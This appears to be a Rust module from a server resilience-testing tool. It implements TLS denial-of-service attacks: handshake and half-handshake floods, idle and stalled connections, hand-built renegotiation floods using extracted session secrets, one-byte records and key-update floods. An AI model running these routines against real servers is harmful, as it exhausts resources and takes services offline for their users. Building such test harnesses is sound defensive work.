//! Attacks over TLS.

use std::io::{self, Write};
use std::sync::Arc;
use std::time::Duration;

use rustls::client::Resumption;
use rustls::crypto::cipher::{OutboundChunks, OutboundPlainMessage};
use rustls::crypto::ring::{cipher_suite, default_provider};
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{
    ClientConfig, ClientConnection, ConnectionTrafficSecrets, ContentType, ProtocolVersion, RootCertStore,
    SupportedCipherSuite, SupportedProtocolVersion,
};
use tokio::time::timeout;

use crate::attack::{Attack, AttackConnection, Listener, Shared};
use crate::servers::SERVER_NAME;
use crate::site::{SMALL, big_page};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack::half_core(Listener::Tls, "tls-handshakes", "handshakes", 64, |s| Box::pin(handshakes(s))),
    Attack::half_core(Listener::Tls, "tls-half-handshakes", "handshakes that stop half-way", 1000, |s| {
        Box::pin(half_handshakes(s))
    }),
    Attack::half_core(Listener::Tls, "tls-idle", "handshakes, then nothing", 1000, |s| Box::pin(idle(s))),
    Attack::half_core(Listener::Tls, "tls-idle-4000", "4,000 handshakes, then nothing", 4000, |s| Box::pin(idle(s))),
    Attack::unlimited(Listener::Tls, "tls-renegotiation", "TLS 1.2 renegotiation", 16, |s| Box::pin(renegotiation(s))),
    Attack::half_core(Listener::Tls, "tls-small-records", "requests in records of one byte", 16, |s| {
        Box::pin(small_records(s))
    }),
    Attack::unlimited(Listener::Tls, "tls-key-updates", "key updates", 16, |s| Box::pin(key_updates(s))),
    Attack::half_core(Listener::Tls, "tls-stalled", "identity pages, readers that stall", 400, |s| {
        Box::pin(stalled(s))
    })
    .with_small_buffer(),
];

/// The configuration of a client that trusts the root in this file, offers these versions and never resumes a session.
pub(crate) fn client_config(
    root: &std::path::Path,
    versions: &[&'static SupportedProtocolVersion],
) -> Result<ClientConfig, String> {
    let mut roots = RootCertStore::empty();
    let certificate = CertificateDer::from_pem_file(root).map_err(|error| format!("{}: {error}", root.display()))?;
    roots.add(certificate).map_err(|error| error.to_string())?;
    let mut provider = default_provider();
    if versions == [&rustls::version::TLS12] {
        // The only suite for which `renegotiation` makes records.
        provider.cipher_suites = vec![cipher_suite::TLS_ECDHE_ECDSA_WITH_CHACHA20_POLY1305_SHA256];
    }
    let builder = ClientConfig::builder_with_provider(Arc::new(provider)).with_protocol_versions(versions);
    let mut config = builder.map_err(|error| error.to_string())?.with_root_certificates(roots).with_no_client_auth();
    config.resumption = Resumption::disabled();
    config.alpn_protocols = vec![b"http/1.1".to_vec()];
    config.enable_secret_extraction = true;
    Ok(config)
}

fn new_client(shared: &Shared, versions: &[&'static SupportedProtocolVersion]) -> io::Result<ClientConnection> {
    let config = client_config(&shared.parameters.root, versions).map_err(io::Error::other)?;
    let name = ServerName::try_from(SERVER_NAME).map_err(io::Error::other)?;
    ClientConnection::new(Arc::new(config), name).map_err(io::Error::other)
}

/// Sends all TLS bytes that wait to be written.
async fn send_pending(connection: &mut AttackConnection, tls: &mut ClientConnection) -> io::Result<()> {
    let mut bytes = Vec::new();
    while tls.wants_write() {
        tls.write_tls(&mut bytes)?;
    }
    connection.send(&bytes).await
}

async fn handshake(
    connection: &mut AttackConnection,
    versions: &[&'static SupportedProtocolVersion],
) -> io::Result<ClientConnection> {
    let mut tls = new_client(&connection.shared, versions)?;
    loop {
        send_pending(connection, &mut tls).await?;
        if !tls.is_handshaking() {
            return Ok(tls);
        }
        let bytes = connection.receive(16 * 1024).await?;
        let mut rest = &bytes[..];
        while !rest.is_empty() {
            tls.read_tls(&mut rest)?;
            tls.process_new_packets().map_err(io::Error::other)?;
        }
    }
}

async fn handshakes(mut connection: AttackConnection) -> io::Result<()> {
    connection.shared.start_units(1).await;
    handshake(&mut connection, rustls::ALL_VERSIONS).await.map(|_| ())
}

/// Keeps TLS connections open that send no request.
async fn idle(mut connection: AttackConnection) -> io::Result<()> {
    connection.shared.start_units(1).await;
    let _tls = handshake(&mut connection, rustls::ALL_VERSIONS).await?;
    connection.drain().await
}

async fn half_handshakes(mut connection: AttackConnection) -> io::Result<()> {
    connection.shared.start_units(1).await;
    let mut hello = Vec::new();
    new_client(&connection.shared, rustls::ALL_VERSIONS)?.write_tls(&mut hello)?;
    // Every second connection sends only half of its first message.
    let length = if connection.number.is_multiple_of(2) { hello.len() } else { hello.len() / 2 };
    connection.send(&hello[..length]).await?;
    // After a second, a new connection replaces it.
    timeout(Duration::from_secs(1), connection.drain()).await?
}

/// The length of a record header.
const RECORD_HEAD: usize = 5;

/// After a handshake with TLS 1.2, a `ClientHello` in an encrypted record, again and again. rustls does not
/// renegotiate, so the records are made here from the secrets of the connection.
async fn renegotiation(mut connection: AttackConnection) -> io::Result<()> {
    let versions: &[&'static SupportedProtocolVersion] = &[&rustls::version::TLS12];
    let mut hello = Vec::new();
    new_client(&connection.shared, versions)?.write_tls(&mut hello)?;
    let secrets = handshake(&mut connection, versions).await?.dangerous_extract_secrets().map_err(io::Error::other)?;
    let (mut sequence, ConnectionTrafficSecrets::Chacha20Poly1305 { key, iv }) = secrets.tx else {
        return Err(io::Error::other("the server chose a cipher suite that was not offered"));
    };
    let SupportedCipherSuite::Tls12(suite) = cipher_suite::TLS_ECDHE_ECDSA_WITH_CHACHA20_POLY1305_SHA256 else {
        return Err(io::Error::other("the suite is not of TLS 1.2"));
    };
    let mut encrypter = suite.aead_alg.encrypter(key, iv.as_ref(), &[]);
    connection
        .flood(|buffer| {
            let message = OutboundPlainMessage {
                typ: ContentType::Handshake,
                version: ProtocolVersion::TLSv1_2,
                payload: OutboundChunks::Single(&hello[RECORD_HEAD..]),
            };
            if let Ok(record) = encrypter.encrypt(message, sequence) {
                buffer.extend(record.encode());
            }
            sequence += 1;
            1
        })
        .await
}

async fn small_records(mut connection: AttackConnection) -> io::Result<()> {
    let mut tls = handshake(&mut connection, rustls::ALL_VERSIONS).await?;
    tls.set_buffer_limit(None);
    let request = format!("HEAD {SMALL} HTTP/1.1\r\nHost: {SERVER_NAME}\r\n\r\n");
    connection
        .flood(|buffer| {
            for byte in request.bytes() {
                // Each write is a record.
                let _ = tls.writer().write(&[byte]);
            }
            while tls.wants_write() {
                let _ = tls.write_tls(buffer);
            }
            1
        })
        .await
}

async fn key_updates(mut connection: AttackConnection) -> io::Result<()> {
    let mut tls = handshake(&mut connection, &[&rustls::version::TLS13]).await?;
    tls.set_buffer_limit(None);
    connection
        .flood(|buffer| {
            for _ in 0..100 {
                let _ = tls.refresh_traffic_keys();
            }
            while tls.wants_write() {
                let _ = tls.write_tls(buffer);
            }
            100
        })
        .await
}

async fn stalled(mut connection: AttackConnection) -> io::Result<()> {
    connection.shared.start_units(1).await;
    let mut tls = handshake(&mut connection, rustls::ALL_VERSIONS).await?;
    let path = big_page(connection.number);
    write!(tls.writer(), "GET {path} HTTP/1.1\r\nHost: {SERVER_NAME}\r\n\r\n")?;
    send_pending(&mut connection, &mut tls).await?;
    connection.hold_open().await
}
